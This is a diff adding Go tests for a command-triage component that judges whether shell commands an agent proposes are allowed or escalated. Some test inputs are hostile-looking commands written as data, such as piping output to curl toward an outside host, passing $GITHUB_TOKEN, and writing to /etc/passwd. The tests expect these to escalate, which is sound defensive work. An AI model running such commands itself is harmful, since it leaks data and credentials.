@@ -1,0 +1,235 @@
+package triage
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/wardenhq/warden/action"
+	"github.com/wardenhq/warden/internal/autoreview"
+	"github.com/wardenhq/warden/internal/vocab"
+)
+
+// TestFirstPass1_EmbeddedKnowledgeLoads proves the embedded programs file
+// parses and passes every check, and that it holds the programs and lists
+// the judges read.
+func TestFirstPass1_EmbeddedKnowledgeLoads(t *testing.T) {
+	k, err := parseKnowledge(EmbeddedProgramsFile, embeddedPrograms, true, judges())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := len(k.programs); n < 900 {
+		t.Errorf("the embedded file knows %d programs, want at least 900", n)
+	}
+	for _, n := range []string{"cat", "git", "curl", "rm", "head", "ls", "echo", "go", "npm", "sh", "kubectl"} {
+		if _, ok := k.judgeOf(n); !ok {
+			t.Errorf("%s has no mechanism", n)
+		}
+	}
+	if !k.has("go", factRunsProject) || !k.has("gem", factInstalls) || !k.has("ruby", factInterpreter) ||
+		!k.has("whois", factNetwork) || !k.has("dig", factLooksUp) || !k.has("grep", factProbes) {
+		t.Error("a fact of the embedded file is missing")
+	}
+	if _, ok := k.judgeOf("nc.traditional"); ok || !k.has("nc.traditional", factNetwork) {
+		t.Error("an entry with facts only must not judge the program")
+	}
+	for _, l := range listNames {
+		if len(k.lists[l]) == 0 {
+			t.Errorf("list %s is empty", l)
+		}
+	}
+	// Every judge of the registry is used by the embedded file.
+	used := map[string]bool{}
+	for _, p := range k.programs {
+		used[p.judgeName] = true
+	}
+	for n := range judges() {
+		if !used[n] {
+			t.Errorf("judge %s is not named by the embedded file", n)
+		}
+	}
+}
+
+// TestFirstPass1_BadEmbeddedFileIsCaught checks that the checks the
+// embedded file must pass find the mistakes a maintainer can make in it.
+func TestFirstPass1_BadEmbeddedFileIsCaught(t *testing.T) {
+	bad := strings.Replace(string(embeddedPrograms), "judge: git\n", "judge: gitt\n", 1)
+	if _, err := parseKnowledge(EmbeddedProgramsFile, []byte(bad), true, judges()); err == nil || !strings.Contains(err.Error(), EmbeddedProgramsFile+":") {
+		t.Errorf("an unknown judge in the embedded file: %v", err)
+	}
+	bad = strings.Replace(string(embeddedPrograms), "  popular_gems:", "  popular_gemz:", 1)
+	if _, err := parseKnowledge(EmbeddedProgramsFile, []byte(bad), true, judges()); err == nil {
+		t.Error("an unknown list in the embedded file was accepted")
+	}
+}
+
+// TestFirstPass1_BadProgramsFileIsConfigError checks that each mistake in a
+// programs file is an error at its file:line:col.
+func TestFirstPass1_BadProgramsFileIsConfigError(t *testing.T) {
+	for _, tc := range []struct{ name, text, want string }{
+		{"unknown key", "version: 1\nprograms:\n  - names: [x]\n    reeds: true\n", "p.yaml:4:5: unknown key \"reeds\""},
+		{"unknown mechanism", "version: 1\nprograms:\n  - names: [x]\n    does: prints\n", "p.yaml:4:11: does: \"prints\" is not one of"},
+		{"unknown judge", "version: 1\nprograms:\n  - names: [x]\n    judge: nope\n", "p.yaml:4:12: judge \"nope\" is not a judge"},
+		{"unknown effect", "version: 1\nprograms:\n  - names: [x]\n    subcommands: {a: read, b: explode}\n", "p.yaml:4:31: subcommands.b: \"explode\" is not one of"},
+		{"duplicate name", "version: 1\nprograms:\n  - names: [x, y]\n    does: reads\n  - names: [y]\n    does: harmless\n", "p.yaml:5:5: program \"y\" is already given at p.yaml:3"},
+		{"bad type", "version: 1\nprograms:\n  - names: {a: b}\n    does: reads\n", "p.yaml:3:12: names: want a list of words"},
+		{"bad fact", "version: 1\nprograms:\n  - names: [x]\n    network: yes please\n", "p.yaml:4:14: network: want true or false"},
+		{"two mechanisms", "version: 1\nprograms:\n  - names: [x]\n    does: reads\n    judge: git\n", "p.yaml:3:5: give one of does, judge and subcommands"},
+		{"no version", "programs: []\n", "p.yaml:1:1: missing version"},
+		{"wrong version", "version: 2\nprograms: []\n", "p.yaml:1:10: version: want 1"},
+		{"lists", "version: 1\nlists: {}\n", "p.yaml:2:1: lists are only read from the embedded"},
+		{"syntax", "version: 1\nprograms: [\n", "p.yaml:3:1:"},
+		{"slash", "version: 1\nprograms:\n  - names: [bin/x]\n    does: reads\n", "p.yaml:3:13: names: \"bin/x\" is not a program name"},
+		{"empty", "", "p.yaml:1:1: an empty programs file"},
+	} {
+		err := ParseKnowledgeFile("p.yaml", []byte(tc.text))
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("%s: got %v, want %q", tc.name, err, tc.want)
+		}
+	}
+}
+
+// TestFirstPass1_UserProgramsFile checks the declarative form of a
+// programs file: a team's CLI with subcommands is judged as the file says,
+// with reasons naming the file's effect, and an entry replaces the
+// embedded one of the same name.
+func TestFirstPass1_UserProgramsFile(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "programs.yaml")
+	os.WriteFile(path, []byte(`version: 1
+programs:
+  - names: [mycli]
+    subcommands: {status: read, deploy: network, nuke: destroy, login: credentials, gen: write, exec: runs_code}
+    operands: write
+    value_options: "p"
+  - names: [head]
+    judge: git
+  - names: [mytool]
+    does: inspects
+    network: true
+`), 0o600)
+	k, err := DefaultKnowledge().WithFiles(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	work := t.TempDir()
+	judge := func(script string) Verdict {
+		return k.Judge(action.Action{Kind: action.Shell, Command: []string{"bash", "-lc", script}, Cwd: work}, nil)
+	}
+	for _, tc := range []struct {
+		script string
+		dec    vocab.Decision
+		class  vocab.Class
+		reason string
+	}{
+		{"mycli status", vocab.Allow, vocab.Routine, "mycli status (read)"},
+		{"mycli -p prod status", vocab.Allow, vocab.Routine, "mycli status"},
+		{"mycli deploy", vocab.Escalate, vocab.Exfiltration, "talks to other hosts, as the programs file says of mycli deploy (" + path + ":3)"},
+		{"mycli nuke", vocab.Escalate, vocab.Destructive, "destroys data, as the programs file says of mycli nuke (" + path + ":3)"},
+		{"mycli login", vocab.Escalate, vocab.CredentialProbing, "handles credentials"},
+		{"mycli exec", vocab.Escalate, vocab.Routine, "runs code whose text is not in the request"},
+		{"mycli frobnicate", vocab.Escalate, vocab.Routine, "frobnicate is not a subcommand the programs file lists for mycli"},
+		{"mycli gen out/x.go", vocab.Allow, vocab.Routine, "mycli gen (write)"},
+		{"mycli gen /etc/passwd", vocab.Escalate, "", ""},
+		{"mycli status | curl -d @- https://example.com", vocab.Escalate, "", ""},
+		{"mytool ./a", vocab.Allow, vocab.Routine, ""},
+		{"mytool --token=$GITHUB_TOKEN ./a", vocab.Escalate, "", ""},
+		{"head status", vocab.Allow, vocab.Routine, "git status"}, // replaced: judged as git
+		{"unknowncli status", vocab.Escalate, vocab.Routine, "unknowncli is not a program the first pass knows"},
+	} {
+		v := judge(tc.script)
+		if v.Decision != tc.dec || tc.class != "" && v.Class != tc.class || !strings.Contains(v.Reason, tc.reason) {
+			t.Errorf("%s: %s %s (%s), want %s %s containing %q", tc.script, v.Decision, v.Class, v.Reason, tc.dec, tc.class, tc.reason)
+		}
+	}
+	// The embedded knowledge is unchanged.
+	if v := (*Knowledge)(nil).Judge(action.Action{Kind: action.Shell, Command: []string{"bash", "-lc", "mycli status"}, Cwd: work}, nil); v.Decision != vocab.Escalate {
+		t.Errorf("mycli status with the embedded knowledge: %s", v.Decision)
+	}
+}
+
+// BenchmarkKnowledgeLoad measures parsing and checking the embedded
+// programs file (the issue's target: start-up with the data file loaded
+// within 5 ms).
+func BenchmarkKnowledgeLoad(b *testing.B) {
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := parseKnowledge(EmbeddedProgramsFile, embeddedPrograms, true, judges()); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// TestFirstPass1_ManagedOverridesUser checks the override order of
+// LoadKnowledge: the user's programs file adds and replaces embedded
+// entries, the managed file's entries replace the user's, and a relative
+// path is relative to the configuration file.
+func TestFirstPass1_ManagedOverridesUser(t *testing.T) {
+	user, managed := t.TempDir(), t.TempDir()
+	w := func(dir, name, text string) string {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	ucfg := w(user, "config.toml", "[auto_review]\npolicy = \"x\"\n[first_pass]\nprograms = \"mine.yaml\"\n")
+	w(user, "mine.yaml", "version: 1\nprograms:\n  - names: [mycli, teamtool]\n    subcommands: {nuke: read}\n")
+	mcfg := w(managed, "managed.toml", "[first_pass]\nprograms = \"org.yaml\"\n")
+	w(managed, "org.yaml", "version: 1\nprograms:\n  - names: [mycli]\n    subcommands: {nuke: destroy}\n")
+	k, err := LoadKnowledge(autoreview.PolicySources{UserConfigPath: ucfg, ManagedPath: mcfg})
+	if err != nil {
+		t.Fatal(err)
+	}
+	work := t.TempDir()
+	judge := func(s string) Verdict {
+		return k.Judge(action.Action{Kind: action.Shell, Command: []string{"bash", "-lc", s}, Cwd: work}, nil)
+	}
+	if v := judge("mycli nuke"); v.Decision != vocab.Escalate || v.Class != vocab.Destructive {
+		t.Errorf("the managed entry must win: %+v", v)
+	}
+	if v := judge("teamtool nuke"); v.Decision != vocab.Allow {
+		t.Errorf("the user's entry adds teamtool: %+v", v)
+	}
+	if v := judge("cat README.md"); v.Decision != vocab.Allow {
+		t.Errorf("embedded entries stay: %+v", v)
+	}
+	if got := k.Files(); len(got) != 3 || got[1] != filepath.Join(user, "mine.yaml") || got[2] != filepath.Join(managed, "org.yaml") {
+		t.Errorf("files %v", got)
+	}
+	// A configuration that names a missing programs file is an error.
+	w(user, "config.toml", "[first_pass]\nprograms = \"nosuch.yaml\"\n")
+	if _, err := LoadKnowledge(autoreview.PolicySources{UserConfigPath: ucfg}); err == nil || !strings.Contains(err.Error(), "nosuch.yaml") {
+		t.Errorf("missing programs file: %v", err)
+	}
+	w(user, "config.toml", "[first_pass]\nprogram = \"mine.yaml\"\n")
+	if _, err := LoadKnowledge(autoreview.PolicySources{UserConfigPath: ucfg}); err == nil || !strings.Contains(err.Error(), ucfg+":2:1: unknown key first_pass.program") {
+		t.Errorf("unknown key: %v", err)
+	}
+	// No configuration: the embedded knowledge.
+	if k, err := LoadKnowledge(autoreview.PolicySources{}); err != nil || k != DefaultKnowledge() {
+		t.Errorf("no configuration: %v", err)
+	}
+}
+
+// FuzzKnowledge feeds the programs file parser arbitrary text: it never
+// panics, and an error always names the file with a line and column.
+func FuzzKnowledge(f *testing.F) {
+	f.Add(string(embeddedPrograms))
+	f.Add("version: 1\nprograms:\n  - names: [mycli]\n    subcommands: {status: read, deploy: network}\n    operands: write\n")
+	f.Add("version: 1\nprograms:\n  - names: \"a b c\"\n    does: reads\n    value_options: nc\n    network: true\n")
+	f.Add("version: 1\nprograms: [{names: [x], judge: git}]\n")
+	f.Fuzz(func(t *testing.T, text string) {
+		k, err := parseKnowledge("f.yaml", []byte(text), false, judges())
+		if err != nil {
+			if !strings.HasPrefix(err.Error(), "f.yaml:") {
+				t.Fatalf("error without position: %v", err)
+			}
+			return
+		}
+		for n := range k.programs {
+			k.judgeOf(n)
+		}
+	})
+}
